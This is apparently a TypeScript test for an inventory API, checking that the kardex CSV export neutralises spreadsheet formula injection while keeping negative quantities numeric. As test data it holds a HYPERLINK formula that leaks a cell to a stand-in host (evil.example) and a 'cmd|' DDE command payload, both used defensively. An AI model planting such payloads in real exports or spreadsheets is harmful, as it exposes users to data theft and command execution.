// A CSV answer over real HTTP defuses a text that starts like a number and goes on as a formula (issue 20 item 9).
import assert from 'node:assert/strict';
import { expectStatus, startProductosWorld, type ProductosWorld } from './productosWorld.js';

describe('CSV answers defuse formulas', () => {
  let w: ProductosWorld;
  before(async () => {
    w = await startProductosWorld();
  });
  after(async () => w?.close());

  it('the kardex CSV writes an adjustment reason "-1+HYPERLINK(...)" or "-2+3+cmd|..." as text, numbers as numbers', async () => {
    const product = await w.product(w.a, { lotTracked: false, expiryTracked: false });
    const id = product.id as string;
    const warehouse = await w.warehouse(w.a);
    const link = '-1+HYPERLINK("http://evil.example/?leak="&A1;"Open")';
    const command = "-2+3+cmd|' /C calc'!A0";
    expectStatus(await w.post(`/productos/${id}/ajustes`, { warehouseId: warehouse, quantity: 5, reason: link }), 201);
    expectStatus(await w.post(`/productos/${id}/ajustes`, { warehouseId: warehouse, quantity: -1, reason: command }), 201);
    const csv = await w.server.request('GET', `/productos/${id}/kardex?formato=csv`, { token: w.a });
    assert.equal(csv.status, 200);
    const body = String(csv.body);
    assert.ok(body.includes(`"'-1+HYPERLINK(""http://evil.example/?leak=""&A1;""Open"")"`), body);
    assert.ok(body.includes(`,'${command},`), body);
    assert.ok(body.includes(',-1,'), 'a negative quantity is still a number');
  });
});
